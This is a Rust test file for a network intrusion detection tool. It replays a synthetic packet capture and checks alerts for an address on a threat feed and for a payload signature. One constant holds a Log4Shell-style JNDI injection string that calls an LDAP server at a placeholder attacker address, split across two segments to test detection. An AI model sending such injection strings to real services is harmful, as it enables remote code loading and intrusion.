//! Feeds and signatures in `netwatch replay` and `netwatch suggest`, as a user runs them, without root.
#![allow(missing_docs, clippy::unwrap_used, reason = "tests")]

use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use xtask::traffic::pcap;
use xtask::traffic::scenario::conversation;

/// 2026-11-21T02:50:00Z, in seconds since the epoch.
const BEGIN_S: u64 = 1_795_229_400;
const MILLISECOND: u64 = 1_000_000;

const LISTED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
const OURS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 5);

/// An attack, in two segments of which neither has all of it.
const ATTACK: [&[u8]; 2] =
    [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];

/// A connection to a listed address, one from it, and one that begins with an attack.
fn capture() -> Vec<u8> {
    let frames = [
        conversation((OURS.into(), 40_000), (LISTED.into(), 443), &[b"hello"]),
        conversation((LISTED.into(), 40_001), (OURS.into(), 22), &[b"SSH-2.0-x\r\n"]),
        conversation((ATTACKER.into(), 40_002), (OURS.into(), 8080), &ATTACK),
    ]
    .concat();
    let packets = (0..).zip(frames).map(|(nth, frame)| (nth * 10 * MILLISECOND, frame)).collect();
    pcap::file(BEGIN_S, packets).unwrap()
}

/// A file for one test, which no other one names.
fn file(name: &str, bytes: &[u8]) -> String {
    let path = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    fs::write(&path, bytes).unwrap();
    path.into_os_string().into_string().unwrap()
}

/// What `netwatch` says: its exit code, its output, and what it says besides.
fn netwatch(options: &str) -> (Option<i32>, String, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_netwatch"));
    let Output { status, stdout, stderr } = command.args(options.split_whitespace()).output().unwrap();
    (status.code(), String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap())
}

fn replay(options: &str, capture: &str) -> (Option<i32>, String, String) {
    netwatch(&format!("replay --engine host --local 192.0.2.0/24 {options} {capture}"))
}

/// Severity, state, rule and address of each line.
fn told(lines: &str) -> Vec<String> {
    let words = |line: &str| line.split_whitespace().skip(1).take(4).collect::<Vec<_>>().join(" ");
    lines.lines().map(words).collect()
}

#[test]
fn a_listed_address_and_an_attack_in_two_segments_are_told() {
    let feed = file("bad.txt", b"203.0.113.64/26 # seen before\n");
    let path = file("looks.pcap", &capture());
    let options = format!("--feed bad={feed}");
    let (code, lines, stderr) = replay(&options, &path);
    assert_eq!(code, Some(0), "{stderr}");
    let expected = [
        "HIGH open ioc.ip 203.0.113.66",
        "HIGH open payload.match 198.51.100.9",
        "HIGH close payload.match 198.51.100.9",
        "HIGH close ioc.ip 203.0.113.66",
    ];
    let mut opened = told(&lines);
    opened.retain(|line| !line.contains(" update "));
    opened.sort_by_key(|line| line.contains("close"));
    assert_eq!(opened, expected, "{lines}");
    assert!(lines.contains("bad") && lines.contains("seen before"), "{lines}");
    assert!(stderr.contains("1 entries of 1 feeds"), "{stderr}");
    assert_eq!(replay(&options, &path).1, lines, "the same capture, the same lines");

    // The incidents are in the summary, too, for people and for programs.
    let (_, text, _) = replay(&format!("{options} --summary"), &path);
    for part in ["ioc.ip", "203.0.113.66", "payload.match", "198.51.100.9 → 192.0.2.5"] {
        assert!(text.contains(part), "{part:?} in {text}");
    }
    let (_, json, _) = replay(&format!("{options} --summary --format json"), &path);
    let report: Value = serde_json::from_str(&json).unwrap();
    let list = report["incidents"]["list"].as_array().unwrap();
    let rules: Vec<_> = list.iter().map(|one| [&one["rule"], &one["src_ip"], &one["observed"]]).collect();
    assert_eq!(rules[0], [&Value::from("ioc.ip"), &"203.0.113.66".into(), &10.into()]);
    assert_eq!(rules[1..], [[&Value::from("payload.match"), &"198.51.100.9".into(), &1.into()]]);

    // The file says it as well, and who wants neither hears of neither.
    let config =
        file("looks.toml", b"[[feeds]]\nname = \"bad\"\nfile = \"bad.txt\"\n[signatures]\nenabled = false\n");
    let (_, lines, _) = replay(&format!("-c {config}"), &path);
    assert!(lines.contains("ioc.ip") && !lines.contains("payload.match"), "{lines}");
    let (_, lines, _) = replay("", &path);
    assert!(!lines.contains("ioc.ip") && lines.contains("payload.match"), "{lines}");
}

#[test]
fn what_is_wrong_with_a_feed_is_told_before_anything_is_replayed() {
    let path = file("wrong.pcap", &capture());
    let feed = file("wrong.txt", b"203.0.113.66\nnonsense here\n");
    for (options, parts) in [
        (format!("--feed wrong={feed}"), ["wrong.txt:2:", "skip_bad_lines"]),
        ("--feed gone=/nowhere/gone.txt".to_owned(), ["/nowhere/gone.txt", "No such file"]),
        ("--signatures /nowhere/gone.toml".to_owned(), ["/nowhere/gone.toml", "No such file"]),
    ] {
        let (code, lines, stderr) = replay(&options, &path);
        assert_eq!((code, lines.as_str()), (Some(2), ""), "{options}: {stderr}");
        assert!(parts.iter().all(|part| stderr.contains(part)), "{options}: {stderr}");
    }
}

#[test]
fn feeds_end_when_the_packets_say_so() {
    let feed = file("ended.txt", b"203.0.113.66\n");
    let path = file("ended.pcap", &capture());
    for (until, is_told) in [("2026-11-21T02:49:00Z", false), ("2026-11-21T02:51:00Z", true)] {
        let text = format!("[[feeds]]\nname = \"bad\"\nfile = \"{feed}\"\nuntil = {until}\n");
        let config = file("ended.toml", text.as_bytes());
        let (code, lines, stderr) = replay(&format!("-c {config}"), &path);
        assert_eq!((code, lines.contains("ioc.ip")), (Some(0), is_told), "{until}: {lines}{stderr}");
    }
}

#[test]
fn no_threshold_is_suggested_for_what_is_listed_or_matches() {
    let feed = file("suggest.txt", b"203.0.113.66\n");
    let path = file("suggest.pcap", &capture());
    let options = format!("suggest --per-day 1 --local 192.0.2.0/24 --feed bad={feed} --from {path}");
    let (code, text, stderr) = netwatch(&options);
    assert_eq!(code, Some(0), "{stderr}");
    let said: Vec<_> = text.lines().filter(|line| !line.starts_with('#')).collect();
    assert!(!said.iter().any(|line| line.contains("threshold")), "{text}");
    assert!(stderr.contains("2 alerts remain"), "{stderr}");
}
